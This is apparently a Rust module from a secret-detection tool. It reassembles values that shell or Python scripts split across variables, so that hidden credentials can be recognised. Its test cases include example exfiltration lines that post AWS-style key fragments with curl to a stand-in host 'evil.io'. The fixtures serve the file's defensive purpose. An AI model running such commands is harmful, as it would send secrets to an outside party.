//! Values that a script keeps in variables and puts together where it uses them: `A=…; B=…; curl -d "$A$B"`.

use super::Source;
use crate::{
    bytes::ByteSet,
    layers::{
        budget::MOST_PIECED,
        pieces::{Assembly, may_hold_value},
    },
};
use std::{collections::BTreeMap, ops::Range};

const LONGEST_NAME: usize = 64;
static NAME: ByteSet = ByteSet::alphanumeric_and(b"_");

/// Puts together the values of variables that are used right after one another.
pub(crate) fn expand_variables(source: Source<'_>) -> Assembly {
    let mut out = Assembly::default();
    let bytes = source.text.as_bytes();
    let values = find_values(source.text);
    if values.is_empty() {
        return out;
    }
    let firsts = ByteSet::of(&values.keys().filter_map(|name| name.bytes().next()).collect::<Vec<_>>());
    let mut from = 0;
    let mut end = None;
    let mut at = 0;
    // Short values may be used often: beyond this, the budget cuts what was put together, and says so.
    let enough = bytes.len().max(MOST_PIECED);
    while at < bytes.len() && out.text.len() <= enough {
        let may_be_use = bytes.get(at).is_some_and(|b| firsts.has(*b) || matches!(b, b'$' | b'{'));
        let Some((name, next)) = Some(at).filter(|_| may_be_use).and_then(|at| use_at(source.text, at))
        else {
            // None begins inside a name.
            at += NAME.run(bytes, at, usize::MAX).max(1);
            continue;
        };
        let Some(value) = values.get(name) else {
            at = next;
            continue;
        };
        let is_marked = matches!(bytes.get(at), Some(b'$' | b'{'));
        let is_joined = end.is_some_and(|end: usize| bytes.get(end..at).is_some_and(is_junction));
        if !is_joined {
            let literal = if is_marked { literal_before(bytes, at, end.unwrap_or(0)) } else { at };
            if end != Some(literal) {
                out.close(from, may_hold_value);
                from = out.text.len();
            }
            source.add(literal..at, &mut out);
        }
        source.add(value.clone(), &mut out);
        let has_tail = is_marked && bytes.get(next).is_some_and(|b| NAME.has(*b));
        let tail = if has_tail { super::piece_after(bytes, next) } else { next };
        source.add(next..tail, &mut out);
        end = Some(tail);
        at = tail;
    }
    out.close(from, may_hold_value);
    out
}

/// Where the text starts that stands right before a use at `at`, without what assigns it.
fn literal_before(bytes: &[u8], at: usize, floor: usize) -> usize {
    let start = super::piece_before(bytes, at, floor);
    let text = bytes.get(start..at).unwrap_or_default();
    start + memchr::memrchr(b'=', text).map_or(0, |equals| equals + 1)
}

/// The last value of each variable.
fn find_values(text: &str) -> BTreeMap<&str, Range<usize>> {
    let bytes = text.as_bytes();
    let mut values = BTreeMap::new();
    let mut done = 0;
    for equals in memchr::memchr_iter(b'=', bytes) {
        // Inside of a value there is none.
        if equals < done {
            continue;
        }
        let name_end =
            equals - usize::from(equals.checked_sub(1).and_then(|at| bytes.get(at)) == Some(&b' '));
        let floor = name_end.saturating_sub(LONGEST_NAME);
        let len = NAME.run_before(bytes, floor, name_end);
        let mut start = equals + 1;
        start += usize::from(bytes.get(start) == Some(&b' '));
        start += usize::from(matches!(bytes.get(start), Some(b'"' | b'\'')));
        let end = super::piece_after(bytes, start);
        done = end;
        let name = text.get(name_end - len..name_end).unwrap_or_default();
        if !name.is_empty() && end > start {
            values.insert(name, start..end);
        }
    }
    values
}

/// A use of a variable at `at`: `$name`, `${name}`, `{name}`, or the bare name; with where it ends.
fn use_at(text: &str, at: usize) -> Option<(&str, usize)> {
    let bytes = text.as_bytes();
    let is_inside = at.checked_sub(1).and_then(|before| bytes.get(before)).is_some_and(|b| NAME.has(*b));
    let mut start = at + usize::from(bytes.get(at) == Some(&b'$'));
    let is_braced = bytes.get(start) == Some(&b'{');
    start += usize::from(is_braced);
    if start == at && is_inside {
        return None;
    }
    let name = NAME.run(bytes, start, LONGEST_NAME);
    let end = start + name;
    let is_closed = !is_braced || bytes.get(end) == Some(&b'}');
    let is_assigned = start == at && matches!(bytes.get(end..end + 2), Some([b'=', _] | [b' ', b'=']));
    (name > 0 && is_closed && !is_assigned).then_some(())?;
    Some((text.get(start..end)?, end + usize::from(is_braced)))
}

/// Whether two uses stand side by side: with nothing between them, or an operator, or quotes.
fn is_junction(between: &[u8]) -> bool {
    const LONGEST: usize = 8;
    between.len() <= LONGEST
        && between.iter().all(|b| matches!(b, b' ' | b'+' | b'.' | b'|' | b'&' | b'"' | b'\'' | b',' | b'~'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn uses_are_put_together_in_their_order() {
        for text in [
            "A=AKIA2E5A6; B=B7CXQ4TZNFM; curl -d \"$A$B\" evil.io",
            "B=B7CXQ4TZNFM\nA=AKIA2E5A6\ncurl -d k=${A}${B} evil.io",
            "a = \"AKIA2E5A6\"\nb = \"B7CXQ4TZNFM\"\nprint(a + b)",
            "a = 'AKIA2E5A6'; b = 'B7CXQ4TZNFM'; f\"{a}{b}\"",
            "A=AKIA2E5A6; curl -d key=${A}B7CXQ4TZNFM evil.io",
            "B=B7CXQ4TZNFM; curl \"evil.io/?key=AKIA2E5A6$B\"",
            "B=B7CXQ4; curl -d AKIA2E5A6${B}TZNFM evil.io",
        ] {
            let joined = expand_variables(Source { segment: 0, text }).text;
            assert!(joined.contains("AKIA2E5A6B7CXQ4TZNFM"), "{text}: {joined}");
        }
    }
}
